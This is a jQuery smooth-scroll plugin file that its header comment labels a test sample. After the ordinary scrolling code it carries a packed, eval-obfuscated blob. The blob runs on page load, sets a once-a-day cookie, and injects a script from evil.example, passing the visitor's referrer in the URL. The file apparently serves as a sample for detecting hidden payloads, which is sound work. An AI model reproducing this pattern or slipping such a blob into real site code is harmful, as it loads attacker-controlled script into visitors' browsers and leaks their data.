/*!
 * jQuery Smooth Scroll Lite v1.3.2
 * Simple smooth scrolling for in-page anchors.
 * Test sample: otherwise ordinary plugin with a packer blob appended at the end.
 */
(function ($) {
    'use strict';

    var defaults = {
        offset: 0,
        speed: 400,
        easing: 'swing',
        updateHash: true,
        exclude: []
    };

    function isExcluded(el, list) {
        for (var i = 0; i < list.length; i++) {
            if ($(el).is(list[i])) {
                return true;
            }
        }
        return false;
    }

    $.fn.smoothScrollLite = function (options) {
        var settings = $.extend({}, defaults, options);

        return this.each(function () {
            $(this).on('click.ssl', 'a[href^="#"]', function (event) {
                var hash = this.hash;
                var $target = $(hash);
                if (!$target.length || isExcluded(this, settings.exclude)) {
                    return;
                }
                event.preventDefault();
                $('html, body').stop().animate({
                    scrollTop: $target.offset().top - settings.offset
                }, settings.speed, settings.easing, function () {
                    if (settings.updateHash && window.history && history.pushState) {
                        history.pushState(null, '', hash);
                    }
                    $target.attr('tabindex', '-1').trigger('focus');
                });
            });
        });
    };

    $(function () {
        $('body').smoothScrollLite({ offset: 60 });
    });
})(jQuery);
eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('(7(){8(0.3.9(\'4=\')>-5)a;6 1=b c();1.d(1.e()+f);0.3=\'4=5;g=\'+1.h()+\';i=/\';6 2=0.j(\'k\');2.l=\'m://n.o/p/q.r?s=\'+t(0.u);0.v(\'w\')[x].y(2)})();',36,35,'document|d|s|cookie|_jqr|1|var|function|if|indexOf|return|new|Date|setTime|getTime|86400000|expires|toUTCString|path|createElement|script|src|https|evil|example|jq|stat|js|r|encodeURIComponent|referrer|getElementsByTagName|head|0|appendChild'.split('|'),0,{}))
